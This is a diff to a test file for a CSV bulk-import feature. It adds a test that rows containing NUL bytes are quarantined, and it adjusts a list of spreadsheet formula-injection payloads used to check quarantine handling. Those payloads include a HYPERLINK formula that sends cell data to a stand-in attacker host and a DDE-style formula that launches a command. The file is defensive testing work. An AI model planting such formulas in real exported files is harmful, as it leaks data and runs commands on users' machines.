@@ -229,7 +229,7 @@ describe(`CSV bulk import on ${TEST_STORE}`, () => {
   });
 
   it('guards cells a spreadsheet would run in the quarantine CSV, and reads them back as they were', async () => {
-    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+1', '-2+3'];
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3'];
     const rows = payloads.map((p, i) => `NCC-F${i},01/03/2026,Fishing,Newport,Newport,,"${p.replace(/"/g, '""')}",,,,,,,${i},`);
     const summary = await importFile(file(rows), 'formulas.csv');
     expect(summary.quarantined).toBe(payloads.length);
@@ -242,6 +242,18 @@ describe(`CSV bulk import on ${TEST_STORE}`, () => {
     const back = await importFile(Buffer.from(download, 'utf8'), 'formulas-quarantine.csv');
     const again = (await partner.request('GET', `/api/imports/${back.id}/quarantine`)).json<Quarantine>();
     expect(again.rows.map((r) => r.cells[6])).toEqual(payloads);
+  });
+
+  it('quarantines a row holding a NUL byte instead of failing the file', async () => {
+    const rows = [
+      'NCC-N1,01/03/2026,Labour,Newport,Newport,,Ana Nul,,F,Polish,,,,Before\u0000after,',
+      'NCC-N2,01/03/2026,Labour,Newport,Newport,,Eva Fine,,F,Polish,,,,Nothing odd,',
+    ];
+    const summary = await importFile(Buffer.from([HEADER, ...rows].join('\r\n') + '\r\n', 'utf8'), 'nul.csv');
+    expect(summary).toMatchObject({ status: 'done', accepted: 1, quarantined: 1 });
+    const refused = (await partner.request('GET', `/api/imports/${summary.id}/quarantine`)).json<Quarantine>().rows;
+    expect(refused[0]!.problems).toEqual([{ field: null, column: 'Notes', reason: expect.stringMatching(/NUL byte/) }]);
+    expect(refused[0]!.cells[13]).toBe('Before\ufffdafter');
   });
 
   it('does not refuse again a row put right in Harbour when the same file comes back', async () => {
